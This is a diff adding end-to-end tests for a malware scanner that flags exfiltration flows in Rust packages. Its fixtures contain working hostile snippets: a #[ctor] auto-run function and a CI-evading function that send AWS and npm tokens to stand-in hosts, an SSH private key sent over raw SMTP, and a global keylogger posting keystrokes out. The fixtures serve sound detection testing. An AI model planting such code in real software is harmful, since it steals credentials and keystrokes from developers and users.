@@ -13,7 +13,9 @@ const lib = (name: string, files: Record<string, string>, pkg = ''): Files => ({
 });
 const src = (...lines: string[]) => lines.join('\n');
 const verdictRank = (r: ScanReport): number =>
-  r.verdict === 'clean' ? -1 : (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(r.verdict);
+  r.verdict === 'clean'
+    ? -1
+    : (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(r.verdict);
 
 interface Case {
   name: string;
@@ -429,4 +431,84 @@ describe('technique families through the real scanner', () => {
         (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(c.atMost!),
       );
     });
+});
+
+// The new signal kinds as they reach the flow engine: a constructor's named function as a trigger,
+// an evasion check raising what it guards, covert channels as sinks, clipboard and keyboard as sources.
+describe('technique signals in flows, end to end', () => {
+  const flowOf = (r: ScanReport, rule: string) => r.findings.find((f) => f.ruleId === rule);
+
+  it('runs the function a #[ctor] attribute names as an automatic trigger', async () => {
+    const r = await scanFiles(
+      lib('ctor-trigger', {
+        'src/lib.rs': src(
+          '#[ctor::ctor]',
+          'fn boot() { helper(); }',
+          'fn helper() {',
+          '    let t = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();',
+          '    let _ = ureq::post("https://ctor-trigger.example/k").send_string(&t);',
+          '}',
+        ),
+      }),
+    );
+    const f = flowOf(r, 'flow.exfiltration');
+    expect(atLeast(f!.severity, 'high')).toBe(true);
+    expect(f?.evidence).toMatch(/runs: static constructor \(#\[ctor\] fn boot[^)]*\) via boot → helper/);
+  });
+
+  const guarded = (gate: boolean) =>
+    lib('gate', {
+      'src/lib.rs': src(
+        'pub fn sync_settings() {',
+        gate ? '    if std::env::var("CI").is_ok() { return; }' : '',
+        '    let t = std::env::var("NPM_TOKEN").unwrap_or_default();',
+        '    let _ = ureq::post("https://203.0.113.9/s").send_string(&t);',
+        '}',
+      ),
+    });
+  it('an evasion check on the path raises the flow it guards', async () => {
+    const plain = flowOf(await scanFiles(guarded(false)), 'flow.exfiltration');
+    const gated = flowOf(await scanFiles(guarded(true)), 'flow.exfiltration');
+    expect(plain).toBeDefined();
+    expect(gated).toBeDefined();
+    const rank = (s: Severity) => ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
+    expect(rank(gated!.severity)).toBeGreaterThan(rank(plain!.severity));
+    expect(gated!.evidence).toMatch(/guarded by/);
+  });
+
+  it('a hand-built SMTP dialogue is a network sink for a stolen SSH key', async () => {
+    const r = await scanFiles(
+      lib('mail-sink', {
+        'src/lib.rs': src(
+          'use std::io::Write;',
+          'pub fn init() {',
+          '    let key = std::fs::read_to_string("/home/u/.ssh/id_ed25519").unwrap_or_default();',
+          '    if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.4:25") {',
+          '        let _ = s.write_all(b"HELO x\\r\\nMAIL FROM:<a@x.invalid>\\r\\n");',
+          '        let _ = s.write_all(key.as_bytes());',
+          '    }',
+          '}',
+        ),
+      }),
+    );
+    expect(flowOf(r, 'flow.exfiltration')?.severity).toBe('critical');
+  });
+
+  it('keystrokes from a global hook sent out are exfiltration', async () => {
+    const r = await scanFiles(
+      lib('key-sink', {
+        'src/lib.rs': src(
+          'pub fn start() {',
+          '    let _ = rdev::listen(|ev| {',
+          '        let line = format!("{:?}", ev);',
+          '        let _ = ureq::post("https://key-sink.example/k").send_string(&line);',
+          '    });',
+          '}',
+        ),
+      }),
+    );
+    expect(
+      r.findings.some((f) => /exfiltration|input-capture/.test(f.ruleId) && atLeast(f.severity, 'high')),
+    ).toBe(true);
+  });
 });
